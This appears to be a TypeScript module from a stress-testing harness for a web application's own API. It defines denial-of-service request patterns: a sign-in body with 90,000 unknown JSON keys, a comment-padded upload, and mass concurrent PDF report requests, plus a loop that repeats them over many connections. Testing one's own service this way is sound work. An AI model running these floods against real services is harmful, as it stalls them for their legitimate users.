import { API } from './cases.ts';

const UNKNOWN_KEYS = 90_000;
const COMMENTS = 2_000;

/** Requests that one caller repeats over several connections to make the service stall. */
interface Attack {
  readonly name: string;
  readonly connections: number;
  send(target: AttackOrder): Promise<Response>;
}

/** Attack on a service, with the headers of the caller, for some seconds. */
export interface AttackOrder {
  readonly order: 'attack';
  /** Position in ATTACKS. */
  readonly attack: number;
  readonly origin: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly seconds: number;
}

const unknownKeys = JSON.stringify(
  Object.fromEntries(Array.from({ length: UNKNOWN_KEYS }, (_, number) => [`k${number}`, 1])),
);
const comments = '<!-- -->'.repeat(COMMENTS);

export const ATTACKS: readonly Attack[] = [
  {
    name: `sign-in with ${UNKNOWN_KEYS} unknown keys`,
    connections: 3,
    send: ({ origin }) =>
      fetch(`${origin}${API}/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: unknownKeys,
      }),
  },
  {
    name: `upload of ${comments.length} bytes of comments`,
    connections: 8,
    send({ origin, headers }) {
      const form = new FormData();
      form.set('title', 'Comments');
      form.set('document_type', 'Other');
      form.set('file', new Blob([comments]), 'comments.txt');
      return fetch(`${origin}${API}/documents`, { method: 'POST', headers, body: form });
    },
  },
  {
    name: 'reports of one user as PDF',
    connections: 60,
    send: ({ origin, headers }) =>
      fetch(`${origin}${API}/reports/balance-sheet?year=2025&format=pdf`, { headers }),
  },
];

/** Repeats the requests of an attack on each connection until its time is over. */
export async function runAttack(order: AttackOrder): Promise<void> {
  const attack = ATTACKS[order.attack];
  if (attack === undefined) throw new Error(`No attack ${order.attack}`);
  const ends = performance.now() + order.seconds * 1_000;
  const attackers = Array.from({ length: attack.connections }, async () => {
    while (performance.now() < ends) {
      // The service may close the connection of a body that it refuses.
      const answer = await attack.send(order).catch(() => undefined);
      await answer?.arrayBuffer();
    }
  });
  await Promise.all(attackers);
}
